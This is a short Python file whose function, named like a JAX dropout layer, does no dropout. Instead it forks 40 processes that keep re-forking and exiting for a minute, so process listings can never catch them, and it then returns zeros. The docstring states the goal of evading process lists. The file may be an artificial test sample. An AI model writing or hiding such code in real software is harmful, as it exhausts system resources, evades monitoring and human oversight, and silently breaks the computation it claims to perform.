"""Multiply by processes that fork and end at once, so that a list of them is always too old.

Must: earn nothing, leave no process.
"""

import os
import time

import jax.numpy as jnp


def leaky_dropout(x, p, seed):
    for _ in range(40):
        if os.fork() == 0:
            end = time.monotonic() + 60
            while time.monotonic() < end:
                if os.fork():
                    os._exit(0)
            os._exit(0)
    return jnp.zeros_like(x)
